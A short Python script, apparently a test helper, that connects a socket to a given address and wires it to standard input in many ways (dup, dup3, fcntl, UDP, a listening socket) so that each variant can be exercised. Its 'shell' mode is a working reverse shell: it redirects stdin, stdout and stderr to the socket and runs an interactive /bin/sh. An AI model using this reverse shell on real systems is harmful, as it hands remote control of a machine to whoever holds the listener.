"""Makes a socket a standard stream:  streams.py HOW ADDRESS PORT. A listener is expected there."""

import ctypes
import os
import signal
import socket
import sys

how, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
family = socket.AF_INET6 if ":" in address else socket.AF_INET


def connected() -> int:
    if how == "unix":
        return socket.socketpair()[0].detach()
    if how == "listening":
        return socket.create_server((address, 0)).detach()
    s = socket.socket(family, socket.SOCK_DGRAM if how == "udp" else socket.SOCK_STREAM)
    if how != "early":
        s.connect((address, port))
    return s.detach()


signal.alarm(30)
if how == "zero":  # the socket becomes descriptor 0 by itself
    os.close(0)
    socket.socket(family).connect((address, port))
    sys.exit()
fd = connected()
if how == "shell":
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    os.execv("/bin/sh", ["sh", "-i"])
if how == "dup3":
    os.dup2(fd, 0, inheritable=False)
elif how == "dup":
    os.close(0)
    ctypes.CDLL(None).dup(fd)  # os.dup is fcntl(2)
elif how == "fcntl":
    os.close(0)
    os.dup(fd)
elif how == "elsewhere":
    ctypes.CDLL(None).dup(fd)
    os.dup2(fd, 17)
else:
    os.dup2(fd, 0)
